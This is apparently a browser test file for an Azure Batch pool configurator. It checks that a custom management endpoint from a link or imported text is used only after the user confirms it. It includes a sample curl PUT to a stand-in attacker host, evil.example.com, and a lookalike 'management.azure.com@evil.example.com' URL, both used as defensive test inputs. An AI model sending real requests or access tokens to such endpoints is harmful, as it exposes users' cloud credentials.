// A custom endpoint receives the token of whoever runs the command, so no link and no text sets one without a question.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';

import { FILLED, Key } from '../support/page.mjs';
import { inEachBrowser } from '../support/suite.mjs';

const EVIL = 'https://evil.example.com';
const BODY = { properties: { vmSize: 'Standard_D2s_v5' } };
const { subscription, resourceGroup, account, pool } = FILLED;
const PATH = `/subscriptions/${subscription}/resourceGroups/${resourceGroup}/providers/Microsoft.Batch/batchAccounts/${account}/pools/${pool}?api-version=2025-06-01`;
const COMMANDS = ['curl-bash', 'curl-powershell', 'curl-cmd'];

const pack = (work) => `s1=${deflateRawSync(JSON.stringify(work)).toString('base64url')}`;
const work = (target) => ({ target: { subscription, resourceGroup, account, pool, ...target }, body: BODY });

inEachBrowser('endpoint', (page) => {
  const notice = () => page().text('.notice-place');
  const offer = () => page().text('#notice-offer');
  const visit = async (target, language = 'en') => {
    await page().visit();
    await page().driver.executeScript("localStorage.setItem('batch-pool-configurator/1/language', arguments[0])", language);
    await page().open(`#${pack(work(target))}`);
    await page().checked();
    await page().until('the notice', notice);
  };
  const outputs = async () => {
    let all = '';
    for (const format of COMMANDS) {
      await page().choose('output-format', format);
      all += await page().output();
    }
    return all;
  };

  for (const [language, question] of /** @type {const} */ ([['en', /evil\.example\.com.*Use it\?/], ['zh-TW', /evil\.example\.com.*要使用它嗎？/]])) {
    test(`a link asks, and nothing is sent there without a yes, ${language}`, async () => {
      await visit({ cloud: 'custom', armEndpoint: EVIL }, language);
      assert.match(await notice(), question);
      assert.ok((await offer()).includes(EVIL));
      assert.equal(await page().value('target-cloud'), 'public');
      assert.equal(await page().value('target-account'), account, 'the rest is taken');
      assert.deepEqual(await page().body(), BODY);
      assert.ok(!(await outputs()).includes('evil'));

      await page().click('notice-offer');
      await page().until('the endpoint', () => page().has('#target-armEndpoint'));
      assert.equal(await page().value('target-armEndpoint'), EVIL);
      // A warning at its field, and at the command.
      await page().until('the warning', () => page().has('[data-code="target-endpoint-custom"]'));
      const commands = await outputs();
      assert.equal(commands.split(`Sends your Azure access token to evil.example.com`).length, COMMANDS.length + 1);
      assert.match(await page().text('.output-note.warning'), /evil\.example\.com/);
      assert.equal(await page().has('#notice-offer'), false);
      await page().click('undo');
      await page().until('undone', async () => (await page().value('target-cloud')) === 'public');
    });
  }

  test('the question can be answered by keyboard', async () => {
    await visit({ cloud: 'custom', armEndpoint: EVIL });
    await page().driver.executeScript("document.getElementById('notice-offer').focus()");
    await page().driver.switchTo().activeElement().sendKeys(Key.ENTER);
    await page().until('the endpoint', () => page().has('#target-armEndpoint'));
    assert.deepEqual(await page().axe(), []);
  });

  test('dismissing it leaves the endpoint out', async () => {
    await visit({ cloud: 'custom', armEndpoint: EVIL });
    assert.deepEqual(await page().axe(undefined, '.notice'), []);
    await page().driver.executeScript("document.querySelector('.notice button:last-child').click()");
    await page().until('no notice', async () => !(await page().has('.notice')));
    assert.ok(!(await outputs()).includes('evil'));
    await page().choose('target-cloud', 'custom');
    await page().until('the field', () => page().has('#target-armEndpoint'));
    assert.equal(await page().value('target-armEndpoint'), '');
    await page().open();
    await page().until('kept work', () => page().has('#output-format'));
    assert.ok(!(await outputs()).includes('evil'), 'nor does it come back after a reload');
  });

  test('a text that is opened asks too', async () => {
    await page().visit();
    await page().import(`curl -X PUT '${EVIL}${PATH}' -d '${JSON.stringify(BODY)}'`);
    await page().checked();
    assert.match(await notice(), /evil\.example\.com.*Use it\?/);
    assert.ok(!(await outputs()).includes('evil'));
    assert.equal(await page().value('target-pool'), pool);
  });

  test('an endpoint that looks like another is named and not offered', async () => {
    await visit({ cloud: 'custom', armEndpoint: 'https://management.azure.com@evil.example.com' });
    assert.match(await notice(), /evil\.example\.com/);
    assert.equal(await page().has('#notice-offer'), false);
    assert.ok(!(await outputs()).includes('evil'));
  });
});
